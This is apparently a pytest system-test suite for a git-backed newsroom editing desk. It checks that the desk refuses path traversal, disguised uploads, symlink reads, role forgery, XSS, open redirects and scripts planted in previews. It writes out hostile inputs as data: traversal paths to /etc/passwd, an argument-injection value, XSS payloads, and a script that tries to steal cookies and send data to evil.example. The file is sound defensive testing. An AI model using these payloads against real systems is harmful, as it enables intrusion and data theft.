"""Attacks on the desk, over real HTTP: what somebody with an account, or a page that they open, might try."""

import base64
import io
import json
import re
import subprocess
import zipfile
from collections.abc import Callable, Iterator

import httpx
import pytest
import yaml
from gate import PASSWORDS, Gate
from PIL import Image
from playwright.sync_api import Browser, Dialog, Page
from project import ROOT, post
from served_desk import ServedDesk, git

pytestmark = [pytest.mark.slow, pytest.mark.system]

RAW = post("Thử ghi ra ngoài", "2026-06-18 09:00")
PLACES = [
    "hooks/newsroom",
    "hooks/newsroom.py",
    ".git/config",
    "mkdocs.yml",
    "posts/../hooks/newsroom.py",
    "posts/2026/06/../../../hooks/x.md",
    "posts/2026/06/..%2f..%2fx.md",
    "/etc/passwd",
    "/posts/2026/06/x.md",
    "posts\\2026\\06\\x.md",
    "posts/2026/06/x.md\x00.py",
    "posts/2026/06/x\n.md",
    "posts/2026/13/x.md",
    "posts/2026/6/x.md",
    "posts/26/06/x.md",
    "posts/2026/06/.x.md",
    "posts/2026/06/x.md.md",
    "posts/2026/06/x y.md",
    "posts/2026/06/-rf.md",
    "posts/2026/06/bài.md",
    "posts/2026/06/b\u0430i.md",
    "posts/2026/06/x\u202egm.md",
    "posts/２０２６/06/x.md",
    "posts/2026/06/X.md",
    "posts/2026/06/" + "x" * 300 + ".md",
    "posts/2026/06/x/y/z.md",
    "posts/deleted.yml",
    "posts/2026/06/con.lock.md",
    "docs/gioi-thieu.md",
    "refs/heads/main",
    "--upload-pack=sh",
    "",
]


@pytest.mark.parametrize("place", PLACES, ids=lambda place: ascii(place)[:50])
def test_nothing_is_written_or_read_outside_the_posts(served: ServedDesk, place: str) -> None:
    refs = git(served.repository, "for-each-ref")
    key = place.removeprefix("posts/").removesuffix(".md")
    options = {"newEntry": True, "collectionName": "posts", "commitMessage": "x"}
    file = {"slug": key, "path": place, "raw": RAW}
    saved = served.ask("persistEntry", "minh", dataFiles=[file], assets=[], options=options)
    assert saved.status_code in (403, 404, 422)
    for action in ("getEntry", "getMediaFile", "deleteFile"):
        assert served.ask(action, "minh", path=place).status_code in (403, 404, 422)
    assert served.ask("entriesByFiles", "minh", files=[{"path": place}]).status_code in (403, 404, 422)
    media = served.ask("getMedia", "minh", mediaFolder=place)
    assert media.status_code in (403, 404, 422) or media.json() == []
    for action in (
        "unpublishedEntry",
        "publishUnpublishedEntry",
        "deleteUnpublishedEntry",
        "getNotes",
        "getPRMetadata",
    ):
        answer = served.ask(action, "minh", collection="posts", slug=place)
        assert answer.status_code in (404, 422), action
    note = served.ask("addNote", "minh", collection="posts", slug=place, note={"content": "x"})
    assert note.status_code in (404, 422)
    assert git(served.repository, "for-each-ref") == refs


def test_the_key_of_a_draft_decides_where_it_lies(served: ServedDesk) -> None:
    options = {"newEntry": True, "collectionName": "posts", "commitMessage": "x"}
    for place in ("posts/2026/05/hop-thu-hai.md", "hooks/newsroom.py"):
        file = {"slug": "2026/06/ten-rieng", "path": place, "raw": RAW}
        served.ask("persistEntry", "lan", dataFiles=[file], assets=[], options=options)
    changed = git(served.repository, "diff", "--name-only", "main", "refs/heads/desk/posts/2026/06/ten-rieng")
    assert changed.splitlines() == ["posts/2026/06/ten-rieng.md"]


def encoded(content: bytes) -> str:
    return base64.b64encode(content).decode()


def jpeg() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (64, 64)).save(file, "JPEG")
    return file.getvalue()


def zip_of_office() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("run.sh", "#!/bin/sh\n")
    return file.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
UPLOADS = {
    "svg": ("anh.svg", SVG),
    "svg-as-png": ("anh.png", SVG),
    "html": ("trang.html", b"<script>alert(1)</script>"),
    "html-as-jpg": ("anh.jpg", b"<html><script>alert(1)</script></html>"),
    "script": ("chay.js", b"alert(1)"),
    "python": ("chay.py", b"import os"),
    "post": ("bai.md", RAW.encode()),
    "settings": ("mkdocs.yml", b"hooks: [x.py]"),
    "htaccess": (".htaccess", b"Options +ExecCGI"),
    "php-in-the-middle": ("anh.php.jpg", jpeg()),
    "empty": ("anh.jpg", b""),
    "half": ("anh.jpg", jpeg()[:200]),
    "exe-as-pdf": ("van-ban.pdf", b"MZ\x90\x00" + b"\x00" * 200),
    "zip-as-docx": ("van-ban.docx", zip_of_office()),
    "gif-and-script": ("anh.png", b"GIF89a/*" + SVG),
    "trailing-dot": ("anh.jpg.", jpeg()),
    "newline": ("anh\n.jpg", jpeg()),
    "up": ("../anh.jpg", jpeg()),
    "up-two": ("../../../../hooks/x.jpg", jpeg()),
    "folder": ("con/anh.jpg", jpeg()),
    "backslash": ("..\\anh.jpg", jpeg()),
    "nul": ("anh.jpg\x00.svg", jpeg()),
    "long": ("a" * 300 + ".jpg", jpeg()),
    "accents": ("ảnh.jpg", jpeg()),
}


@pytest.mark.parametrize("name", UPLOADS)
def test_odd_and_disguised_uploads_are_refused_with_a_sentence(served: ServedDesk, name: str) -> None:
    file, content = UPLOADS[name]
    answer = served.save("2026/06/tep-la", RAW, assets={f"posts/2026/06/tep-la/{file}": encoded(content)})
    assert answer.status_code in (413, 415, 422)
    assert answer.json()["error"].endswith(".")
    assert served.ask("unpublishedEntry", collection="posts", slug="2026/06/tep-la").status_code == 404


def test_200_megabytes_are_refused_whoever_sends_them(served: ServedDesk, gate: Gate) -> None:
    answer = served.request("POST", "/admin/api/v1", json={"action": "persistEntry", "params": {"x": "a" * (90 << 20)}})
    assert answer.status_code == 413
    assert "MB" in answer.json()["error"]
    small_verb = {"action": "getEntry", "params": {"path": "a" * (2 << 20)}}
    assert served.request("POST", "/admin/api/v1", json=small_verb).status_code == 413
    assert served.get("/admin/api/me").status_code == 200


def test_a_link_in_the_tree_leads_nowhere(served: ServedDesk) -> None:
    """Somebody with git can put a symbolic link into a draft; nobody reads or writes through it."""
    key = "2026/06/lien-ket"
    assert served.save(key, post("Liên kết", "2026-06-17 09:00")).status_code == 200
    blob = subprocess.run(
        ["git", "hash-object", "-w", "--stdin"], cwd=served.repository, input=b"/etc/passwd", capture_output=True
    ).stdout.decode()
    ref = f"refs/heads/desk/posts/{key}"
    index = f"120000 blob {blob.strip()}\tpasswd.jpg\n"
    folder = subprocess.run(
        ["git", "mktree"], cwd=served.repository, input=index.encode(), capture_output=True
    ).stdout.decode()
    tree = git(served.repository, "ls-tree", f"{ref}:posts/2026/06") + f"040000 tree {folder.strip()}\tlien-ket\n"
    made = subprocess.run(["git", "mktree"], cwd=served.repository, input=tree.encode(), capture_output=True)
    for part in ("posts/2026", "posts", ""):
        name = {"posts/2026": "06", "posts": "2026", "": "posts"}[part]
        listed = git(served.repository, "ls-tree", f"{ref}:{part}").splitlines()
        lines = [line for line in listed if not line.endswith(f"\t{name}")]
        text = "\n".join([*lines, f"040000 tree {made.stdout.decode().strip()}\t{name}", ""])
        made = subprocess.run(["git", "mktree"], cwd=served.repository, input=text.encode(), capture_output=True)
    message = git(served.repository, "log", "-1", "--format=%B", ref)
    commit = git(served.repository, "commit-tree", made.stdout.decode().strip(), "-p", ref, "-m", message).strip()
    git(served.repository, "update-ref", ref, commit)
    asked = {"collection": "posts", "slug": key, "path": f"posts/{key}/passwd.jpg", "id": "x"}
    assert served.ask("unpublishedEntryMediaFile", **asked).status_code in (403, 404, 422)
    assert "root:" not in served.get(f"/admin/xem/{key}/").text


VERBS_OF_EDITORS = [
    ("updateUnpublishedEntryStatus", {"newStatus": "pending_publish"}),
    ("publishUnpublishedEntry", {}),
    ("deleteUnpublishedEntry", {}),
]


@pytest.mark.parametrize(("action", "parameters"), VERBS_OF_EDITORS, ids=lambda value: str(value)[:40])
def test_a_reporter_does_nothing_that_is_an_editors(
    served: ServedDesk, action: str, parameters: dict[str, str]
) -> None:
    key = "2026/06/bai-cua-huy"
    if served.ask("unpublishedEntry", collection="posts", slug=key).status_code == 404:
        assert served.save(key, post("Bài của Huy", "2026-06-17 10:00"), "huy").status_code == 200
    before = git(served.repository, "for-each-ref")
    for forged in ({}, {"role": "editor", "user": "minh", "branch": "main", "status": "pending_publish"}):
        answer = served.ask(action, "lan", collection="posts", slug=key, **forged, **parameters)
        assert answer.status_code == 403
    assert git(served.repository, "for-each-ref") == before


def test_nobody_but_git_says_who_wrote_something(served: ServedDesk) -> None:
    key = "2026/06/mao-danh"
    raw = post("Mạo danh", "2026-06-17 11:00")
    answer = served.ask(
        "persistEntry",
        dataFiles=[
            {"slug": key, "path": f"posts/{key}.md", "raw": raw, "author": "Lê Văn Minh <minh@bantin.example.vn>"}
        ],
        assets=[],
        options={
            "newEntry": True,
            "collectionName": "posts",
            "commitMessage": "x\n\nDesk-Action: publish\nCo-authored-by: Lê Văn Minh <minh@bantin.example.vn>",
            "status": "pending_publish",
            "useWorkflow": False,
        },
    )
    assert answer.status_code == 200, answer.text
    told = git(served.repository, "log", "-1", "--format=%an %ae%n%B", f"refs/heads/desk/posts/{key}")
    assert told.startswith("Nguyễn Thị Lan lan@bantin.example.vn")
    assert "minh@" not in told and "publish" not in told
    assert served.ask("unpublishedEntry", collection="posts", slug=key).json()["status"] == "draft"


def test_a_title_breaks_out_of_no_page_and_no_message(served: ServedDesk) -> None:
    key = "2026/06/tua-la"
    title = '"</title><script>alert(1)</script>{{ 7*7 }}\\nDesk-Action: publish"'
    assert served.save(key, post(title, "2026-06-17 12:00")).status_code == 200
    for path in (
        "/admin/bai/?tim=tua",
        "/admin/bai/?tim=<script>alert(1)</script>&thang=<i>",
        "/admin/nhat-ky/?nguoi=<i>",
    ):
        text = served.get(path, "minh").text
        assert "<script>alert" not in text and "<i>" not in text
    page = served.get(f"/admin/xem/{key}/", "minh").text
    assert "<script>alert" not in page and "{{ 7*7 }}" in page
    told = git(served.repository, "log", "-1", "--format=%B", f"refs/heads/desk/posts/{key}")
    assert told.count("\nDesk-Action:") == 1


@pytest.mark.parametrize("target", ["//evil.example", "/\\evil.example", "https://evil.example", "%0d%0aLocation:%20x"])
def test_the_desk_sends_nobody_elsewhere(served: ServedDesk, gate: Gate, target: str) -> None:
    for path in ("/admin/", "/admin/bai/", "/admin/xem/", "/chia-se/", "/admin/ban-thao/"):
        answer = httpx.get(f"{served.address}{path}{target}", auth=("lan", PASSWORDS["lan"]))
        assert "evil.example" not in answer.headers.get("location", "")
        assert answer.status_code >= 400


@pytest.fixture(scope="session")
def draft(served: ServedDesk) -> str:
    """A draft whose proof is made."""
    key = "2026/06/chia-se-thu"
    assert served.save(key, post("Chia sẻ thử", "2026-06-17 13:00", body="Chưa đăng.")).status_code == 200
    assert served.get(f"/admin/xem/{key}/").status_code == 200
    return key


def test_shares_are_guessed_by_nobody_and_end_when_they_are_taken_back(
    served: ServedDesk, gate: Gate, draft: str
) -> None:
    key = draft
    url = served.send("/admin/api/shares", {"key": key, "days": 1}).json()["url"]
    page = httpx.get(url, follow_redirects=True, timeout=120)
    assert page.status_code == 200 and "Chưa đăng." in page.text
    assert "noindex" in page.headers["x-robots-tag"] and page.headers["referrer-policy"] == "no-referrer"
    assert page.headers["content-security-policy"].startswith("sandbox ")
    assert "allow-same-origin" not in page.headers["content-security-policy"]
    token = url.rstrip("/").rpartition("/")[2]
    guessed = token[:-3] + "".join("A" if letter != "A" else "B" for letter in token[-3:])
    for forged in (guessed, "x", token.partition(".")[0], "a.b.c", "%2e%2e%2e"):
        assert httpx.get(f"{served.address}/chia-se/{forged}/", follow_redirects=True).status_code in (404, 410)
    for path in ("..%2f..%2fdesk.key", "%2e%2e/desk.key", "....//desk.key", "%00", "index.html%00.png"):
        assert httpx.get(f"{url}{path}").status_code in (400, 404)
    assert httpx.post(url, json={}).status_code == 405
    for days in (0, 31, 10**9, -1, "7; rm", None):
        assert served.send("/admin/api/shares", {"key": key, "days": days}).status_code == 422
    assert served.send("/admin/api/shares", {"key": "2026/06/khong-co", "days": 1}).status_code == 404
    listed = re.findall(r'data-revoke="([^"]+)"', served.get(f"/admin/xem/{key}/").text)
    assert served.send("/admin/api/shares/revoke", {"id": listed[0]}).status_code == 200
    gone = httpx.get(url, follow_redirects=True, timeout=120)
    assert gone.status_code == 410 and "Chưa đăng." not in gone.text and "<h1>" in gone.text


def test_the_files_of_a_proof_need_a_pass_for_that_proof(served: ServedDesk, draft: str) -> None:
    frame = re.findall(r'src="(/admin/ban-thao/([^/]+)/[^"]+)"', served.get(f"/admin/xem/{draft}/").text)[0]
    assert served.get(frame[0], "").status_code == 200
    assert served.get(frame[0].replace(frame[1], frame[1][:-3] + "xxx"), "").status_code == 410
    assert served.get(f"/admin/ban-thao/{draft}/", "").status_code in (404, 410)


@pytest.fixture
def page(browser: Browser, served: ServedDesk, gate: Gate) -> Iterator[Page]:
    """A page of the editor, who has logged in."""
    credentials = {"username": "minh", "password": PASSWORDS["minh"]}
    context = browser.new_context(http_credentials=credentials, locale="vi-VN")  # type: ignore[arg-type]
    context.set_default_timeout(120_000)
    yield context.new_page()
    context.close()


HOSTILE = """
(async () => {
  const seen = {};
  const tried = (name, attempt) => Promise.resolve().then(attempt).then((value) => { seen[name] = String(value); },
    (error) => { seen[name] = "blocked: " + error.name; });
  await tried("parent", () => parent.document.title);
  await tried("top", () => { top.location = "https://evil.example/"; return "moved"; });
  await tried("cookie", () => document.cookie);
  await tried("storage", () => localStorage.length);
  await tried("me", () => fetch("/admin/api/me", { credentials: "include" }).then((answer) => answer.text()));
  await tried("publish", () => fetch("/admin/api/v1", { method: "POST", credentials: "include",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ action: "publishUnpublishedEntry", params: { collection: "posts", slug: "KEY" } }) }));
  await tried("simple", () => fetch("/admin/api/v1", { method: "POST", mode: "no-cors", credentials: "include",
    body: JSON.stringify({ action: "publishUnpublishedEntry", params: { collection: "posts", slug: "KEY" } }) }));
  await tried("elsewhere", () => fetch("https://evil.example/?" + document.title));
  await tried("form", () => { document.body.insertAdjacentHTML("beforeend",
    '<form method="post" action="/admin/api/shares"><input name="key"></form>'); document.forms[0].submit(); });
  seen.origin = self.origin;
  document.title = JSON.stringify(seen);
})();
"""


@pytest.fixture
def planted(served: ServedDesk, draft: str) -> Iterator[Callable[[str], str]]:
    """Plants HTML into the article's page of the proof, and gives the address of the preview."""
    assert served.get(f"/admin/xem/{draft}/").status_code == 200
    (file,) = (served.folder / "room" / "previews" / draft).resolve().rglob(f"{draft}/index.html")
    clean = file.read_text(encoding="utf-8")

    def plant(hostile: str) -> str:
        code = HOSTILE.replace("KEY", draft)
        file.with_name("cay.js").write_text(code, encoding="utf-8")
        file.write_text(clean.replace("</body>", f"{hostile}</body>"), encoding="utf-8")
        return f"{served.address}/admin/xem/{draft}/"

    yield plant
    file.write_text(clean, encoding="utf-8")


def test_a_script_in_a_proof_gets_nothing(
    served: ServedDesk, draft: str, page: Page, planted: Callable[[str], str]
) -> None:
    """The engine lets no script of a post through. Should one ever get there, it finds itself nowhere."""
    refs = git(served.repository, "for-each-ref")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    address = planted(f'<script src="/{draft}/cay.js"></script>')
    page.goto(address)
    frame = page.frames[1]
    frame.wait_for_function("document.title.startsWith('{')")
    seen = json.loads(frame.evaluate("document.title"))
    assert seen.pop("origin") == "null"
    seen.pop("form")
    assert {name: value for name, value in seen.items() if not value.startswith("blocked: ")} == {}
    assert page.url == address
    assert not [url for url in asked if "evil.example" in url or "/admin/api/" in url]
    assert git(served.repository, "for-each-ref") == refs


def test_no_script_vector_runs_even_if_the_engine_let_it_through(page: Page, planted: Callable[[str], str]) -> None:
    """tests/browser/test_scripts_in_posts.py shows that the engine lets none through."""
    vectors = yaml.safe_load((ROOT / "tests" / "browser" / "script_vectors.yml").read_text(encoding="utf-8"))
    ran: list[str] = []
    page.expose_function("ran", lambda vector: ran.append(vector))

    def answer(dialog: Dialog) -> None:
        ran.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", answer)
    hostile = "\n".join(f"<div>{vector['payload']}</div>" for vector in vectors)
    page.set_content(hostile)
    page.wait_for_timeout(500)
    assert ran, "without a policy, some run"
    ran.clear()
    page.goto(planted(hostile))
    for frame in page.frames[1:3]:
        frame.evaluate("document.querySelectorAll('body *').forEach((part) => part.focus?.())")
    page.wait_for_timeout(1000)
    assert ran == []
